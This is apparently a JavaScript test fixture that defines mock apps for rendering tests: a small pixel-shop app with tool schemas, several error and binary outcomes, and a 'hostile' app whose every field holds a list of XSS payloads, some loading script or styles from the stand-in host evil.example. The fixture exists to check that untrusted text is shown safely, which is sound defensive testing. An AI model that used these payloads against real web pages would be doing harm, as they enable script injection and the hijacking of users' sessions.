/** Apps for the tests of the page: one as people write them, one that tries to be more than text. */

const PNG = "iVBORw0KGgoAAAANSUhEUgAAACAAAAAgCAIAAAD8GO2jAAAARUlEQVR42mPQVgynKWIYtWAEWBBiNIumaNSCQWDBCqNKmqJRCwaBBf9jY2mKRi0YERbM86IpGrVgMFhwP5umaNSCgbcAAJum6yxbLRu8AAAAAElFTkSuQmCC"

const json = (body, status = 200) => ({ status, body })

/** A small shop for pixels. Whatever has a result of its own sort is there once. */
export const shop = [
  {
    path: "/paint", description: "Paints a rectangle of the picture and tells how many pixels changed.",
    input_schema: {
      type: "object", required: ["x", "y", "color"],
      properties: {
        x: { type: "integer", minimum: 0, maximum: 31, description: "Column, from the left" },
        y: { type: "integer", minimum: 0, maximum: 31, default: 5, description: "Row, from the top" },
        color: { type: "string", enum: ["red", "green", "sky blue"], description: "What to paint with" },
        opacity: { type: "number", minimum: 0, maximum: 1 },
        note: { type: "string", description: "What it is for, over as many lines as you like" },
        title: { type: "string", minLength: 2, maxLength: 40 },
        day: { type: "string", format: "date" },
        outline: { type: "boolean", description: "Whether to paint the edge only" },
        tags: { type: "array", items: { type: "string" }, default: ["new"] },
      },
    },
    answer: ({ body }) => json({ painted: 12, got: JSON.parse(body) }),
  },
  {
    path: "/find", method: "GET", read_only: true, description: "Finds pixels by colour.",
    input_schema: { type: "object", required: ["color"], properties: { color: { type: "string" }, limit: { type: "integer" } } },
    answer: ({ query, body }) => json({ query, body }),
  },
  { path: "/say", description: "Says something. It has no schema.", answer: ({ body }) => ({ status: 200, headers: { "content-type": "text/plain" }, body: `You said ${body || "nothing"}.` }) },
  { path: "/photo", method: "GET", read_only: true, description: "The picture as an image.", answer: () => ({ status: 200, headers: { "content-type": "image/png" }, body: PNG, bodyEncoding: "base64" }) },
  {
    path: "/bake", description: "Bakes the picture. It takes a while.",
    answer: () => ({ status: 202, taskId: "cake-1" }),
  },
]

/** Outcomes that are no plain result. */
export const outcomes = [
  { path: "/nothing", answer: () => ({ status: 204 }) },
  { path: "/refuse", answer: () => json({ error: { code: "no_ink", message: "The ink is used up: fill in some, then try again." } }, 422) },
  { path: "/break", answer: () => json({ what: "broke" }, 500) },
  { path: "/zip", answer: () => ({ status: 200, headers: { "content-type": "application/zip" }, body: "UEsFBg==", bodyEncoding: "base64" }) },
  { path: "/much", answer: () => json("long ".repeat(100_000)) },
]

/** Texts that would do something if they were taken for more than text. */
export const HOSTILE = [
  "<script>hacked=1;alert(1)</script>",
  '"><img src=x onerror=hacked=1>',
  "'><svg onload=hacked=1>",
  "</textarea></pre></title></style></script><script src=//evil.example/a.js></script>",
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  "<base href=//evil.example><link rel=stylesheet href=//evil.example/a.css>",
  '" autofocus onfocus=hacked=1 x="',
  "<iframe src=javascript:hacked=1></iframe>",
  "<form action=//evil.example><button>",
  "javascript:hacked=1",
  "--><!-- ]]> &lt;b&gt; &amp; {{7*7}}",
].join(" ")

/** An app whose every text is hostile. */
export const hostileApp = {
  agentsMd: HOSTILE,
  appDescription: HOSTILE,
  tools: [
    {
      path: "/attack", description: HOSTILE,
      input_schema: {
        type: "object", title: HOSTILE, description: HOSTILE, required: ["text"],
        properties: {
          text: { type: "string", title: HOSTILE, description: HOSTILE, default: HOSTILE, format: HOSTILE, pattern: HOSTILE },
          lines: { type: "string", maxLength: 5000, default: HOSTILE },
          choice: { enum: [HOSTILE, "x"], default: HOSTILE, description: HOSTILE },
          list: { type: "array", default: [HOSTILE], description: HOSTILE },
          whole: { type: "integer", default: HOSTILE, minimum: HOSTILE, maximum: HOSTILE },
          [HOSTILE]: { type: "string", description: HOSTILE },
        },
      },
      answer: ({ body }) => json({ [HOSTILE]: HOSTILE, body }),
    },
    { path: "/any", description: HOSTILE, input_schema: { type: "string", description: HOSTILE }, answer: () => ({ status: 200, headers: { "content-type": `text/html; charset=utf-8` }, body: HOSTILE }) },
    { path: "/fail", description: HOSTILE, answer: () => json({ error: { code: HOSTILE, message: HOSTILE } }, 500) },
    { path: "/svg", answer: () => ({ status: 200, headers: { "content-type": "image/svg+xml" }, body: `<svg xmlns="http://www.w3.org/2000/svg" onload="hacked=1"><script>hacked=1</script></svg>` }) },
    { path: "/type", answer: () => ({ status: 200, headers: { "content-type": `${HOSTILE}/x` }, body: "AA==", bodyEncoding: "base64" }) },
    { path: "/later", answer: () => ({ status: 202, taskId: "t" }) },
  ],
}
